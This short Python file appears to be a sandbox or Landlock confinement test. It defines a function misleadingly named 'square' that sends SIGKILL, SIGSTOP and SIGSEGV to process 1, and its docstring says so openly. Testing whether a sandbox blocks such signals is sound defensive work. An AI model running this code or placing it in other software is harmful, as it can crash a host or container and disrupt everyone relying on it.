"""Kills process 1, which is itself or the keeper of all others."""
# needs: landlock
# %% square
import os
import signal

def square(x):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGSEGV):
        os.kill(1, number)
    return 0
